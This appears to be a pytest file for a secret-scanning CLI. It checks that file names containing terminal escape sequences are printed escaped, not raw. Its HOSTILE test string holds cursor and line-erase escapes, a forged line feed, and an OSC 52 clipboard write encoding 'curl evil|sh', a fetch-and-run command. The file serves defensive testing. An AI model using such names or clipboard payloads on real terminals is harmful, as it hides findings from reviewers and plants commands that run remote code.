"""review62: a local user (or a pull request's author) names a file in a shared tree so that `exitguard scan`'s
report rewrites the reviewer's terminal.

A file name is the writer's to choose: every byte but `/` and NUL, so escape sequences (erase the line above, move
the cursor: the finding's row hidden or a clean summary drawn over it), OSC (retitle the window, OSC 52 writes the
clipboard), C1 controls and a line feed (a forged row). Before review62 the table's location column, the
`incomplete` lines and `--jsonl`'s error line printed the name as it was (JSON and SARIF escape controls already).
"""

from __future__ import annotations

import json

from addons.cli import main as cli
from addons.cli import scan
from tests.fakes import github_pat

TOKEN = github_pat(seed=62)
HOSTILE = "evil\x1b[1A\x1b[2K\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;clean\x07\x9b31m\u202etxt.\nrow.env"
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def _no_control(text: str) -> None:
    for control in CONTROLS:
        assert control not in text, repr(control)


def test_a_hostile_file_name_reaches_the_table_written_out(tmp_path, capsys):
    (tmp_path / HOSTILE).write_text(f"token = {TOKEN}\n")
    assert cli.main(["scan", "--no-gitignore", str(tmp_path)]) == 1  # found: the name cannot hide it
    out = capsys.readouterr().out
    _no_control(out)
    assert "\\x1b[1A\\x1b[2K\\x1b]52;c;" in out  # shown, written out: the reviewer sees what the name holds
    row = [line for line in out.splitlines() if "github-pat" in line]
    assert len(row) == 1 and "\\x0a" in out  # the line feed cannot forge a second row
    assert TOKEN not in out


def test_a_hostile_name_in_the_incomplete_lines_is_written_out(tmp_path, capsys, monkeypatch):
    path = tmp_path / HOSTILE
    path.write_text("nothing here\n")
    original = scan.scan_source

    def cut_short(*args, **kwargs):  # as a scan that ran out of its budget reports itself
        result = original(*args, **kwargs)
        result.incomplete.append("scan budget exhausted")
        return result

    monkeypatch.setattr(scan, "scan_source", cut_short)
    assert cli.main(["scan", "--no-gitignore", str(path)]) == 1
    out = capsys.readouterr().out
    _no_control(out)
    assert "incomplete " in out and "scan budget exhausted" in out


def test_jsonl_errors_write_a_hostile_name_out(tmp_path, capsys):
    path = tmp_path / (HOSTILE + ".jsonl")
    path.write_text("not json\n" + json.dumps({"id": 1, "text": "hello"}) + "\n")
    assert cli.main(["scan", "--jsonl", str(path)]) == 2
    captured = capsys.readouterr()
    _no_control(captured.err)
    assert "expected a JSON object with id and text" in captured.err
    assert json.loads(captured.out) == {"id": 1, "findings": []}
